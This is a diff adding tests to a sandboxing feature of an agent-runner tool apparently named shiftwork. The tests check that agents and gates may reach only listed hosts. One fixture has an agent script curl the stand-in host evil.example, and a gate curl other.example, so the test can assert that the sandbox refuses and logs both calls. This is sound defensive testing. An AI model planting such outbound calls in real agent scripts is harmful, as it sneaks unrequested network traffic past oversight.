@@ -49,6 +49,37 @@ def test_the_doctor_tells_which_tier_is_in_force(project: Project) -> None:
     assert (check["state"], check["detail"].split(":")[0]) == ("ok", "bubblewrap")
 
 
+LISTED = """\
+[sandbox]
+tier = "bubblewrap"
+agents = { hosts = ["api.example.com", "*.example.org"] }
+gates = { hosts = ["127.0.0.1:1"] }
+"""
+
+
+def test_the_doctor_tells_which_hosts_are_called(project: Project) -> None:
+    settings(project.root, LISTED)
+    told = project.shiftwork("doctor", "--json")
+    (check,) = (one for one in json.loads(told.stdout)["checks"] if one["name"] == "sandbox")
+    assert check["state"] == "ok"
+    assert check["detail"].endswith("; agents call api.example.com, *.example.org alone; gates call 127.0.0.1:1 alone")
+
+
+CALLS = f"""\
+if [ "$SHIFTWORK_STEP_TYPE" = coding ]; then curl -sS http://evil.example/ > seen.txt; fi
+{WORKING}"""
+
+
+def test_neither_agent_nor_gate_call_who_is_not_listed_and_that_is_told(project: Project) -> None:
+    project.settle(agent=CALLS, gates='test = "! test -f hello.txt || curl -sSf http://other.example/"')
+    settings(project.root, f"{LISTED}[limits]\nrepairs = 0\n")
+    ran = project.shiftwork("run", "Say hello")
+    assert ran.returncode == 1, ran.stdout + ran.stderr
+    assert "refused by the sandbox: other.example is not listed under hosts of [sandbox.gates]" in ran.stdout
+    logs = project.shiftwork("logs", "--story", "US-001", "--step", "coding").stdout
+    assert "refused by the sandbox: evil.example is not listed under hosts of [sandbox.agents]" in logs
+
+
 def test_where_it_cannot_be_had_nothing_is_run_without(project: Project, tmp_path: Path) -> None:
     settings(project.root, '[sandbox]\ntier = "bubblewrap"\n')
     path = broken(tmp_path, project)
